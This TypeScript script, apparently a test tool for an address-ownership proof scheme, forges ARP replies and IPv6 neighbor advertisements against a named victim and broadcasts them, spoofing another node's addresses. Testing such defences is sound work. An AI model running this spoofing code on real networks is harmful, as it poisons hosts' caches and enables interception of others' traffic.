/**
 * Sends ARP replies and neighbor advertisements in a node's name, seven a second for each address, to another node and to all hosts:
 * `forge-arp.ts NODE-MAC VICTIM-MAC ADDRESS…`, until it is stopped; then prints how many. Where it is challenged to prove that it has an address, it
 * does so with a key of its own.
 */
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { ArpOperation, encodeArp, encodeNeighbor, Proofs, unsolicited } from "#pkg/layer2/testing";
import { EtherType, etherTypeFilter, interfaceIndexOf, PacketSocket, ReceiveBatch, SendBatch } from "#pkg/linux";
import { broadcastMac, parseAddress, parseMac } from "#pkg/net";

const [nodeText = "", victimText = "", ...texts] = process.argv.slice(2);
const [node, victim, index] = [parseMac(nodeText), parseMac(victimText), interfaceIndexOf("eth0")];
if (node === undefined || victim === undefined || index === undefined)
  throw new Error("Cannot forge: two MAC addresses and eth0 needed");
const perSecond = 7;
const keepAll = 128;
const socket = PacketSocket.open(index, EtherType.arp, etherTypeFilter(EtherType.arp, 0));
const challenges = PacketSocket.open(index, EtherType.experimental, etherTypeFilter(EtherType.experimental, keepAll));
const proofs = new Proofs(() => randomBytes(16), 0);
proofs.setKeys([randomBytes(16)]);

/** A frame that uses the address towards the victim, or announces it to all hosts. */
function forged(text: string, isAnnouncement: boolean): Uint8Array {
  const address = parseAddress(text);
  if (address === undefined) throw new Error(`Cannot forge: ${text} is no address`);
  if (address.family === "IPv6") {
    const frame = unsolicited(node ?? 0, address.value);
    return encodeNeighbor(isAnnouncement ? frame : { ...frame, destinationMac: victim ?? 0 });
  }
  const value = Number(address.value);
  return encodeArp({
    destination: isAnnouncement ? broadcastMac : (victim ?? 0),
    source: node ?? 0,
    operation: ArpOperation.reply,
    senderMac: node ?? 0,
    senderAddress: value,
    targetMac: victim ?? 0,
    targetAddress: isAnnouncement ? value : 0,
  });
}

const pairs = texts.map((text) => [forged(text, true), forged(text, false)] as const);
let rounds = 0;
let answered = 0;
const received = new ReceiveBatch(64, keepAll);
const send = (frame: Uint8Array): void => {
  const batch = new SendBatch(1, keepAll);
  batch.push(frame);
  socket.send(batch);
};
/** The interface takes frames for the node only where it is promiscuous. */
const answer = (): void => {
  const count = challenges.receive(received);
  for (let i = 0; i < count; i++) {
    const { frame, arrival } = received.frame(i);
    const taken = arrival === "outgoing" ? undefined : proofs.receive(frame, node, performance.now(), () => true);
    if (taken === undefined || !("answer" in taken)) continue;
    send(taken.answer);
    answered++;
  }
};
const forge = (): void => {
  for (const [announcement, use] of pairs) send(rounds % perSecond === 0 ? announcement : use);
  rounds++;
};
console.log("sending");
const timers = [setInterval(forge, 1000 / perSecond), setInterval(answer, 10)];
await once(process, "SIGTERM");
for (const timer of timers) clearInterval(timer);
console.log(`sent ${rounds * pairs.length}, answered ${answered}`);
for (const one of [socket, challenges]) one[Symbol.dispose]();
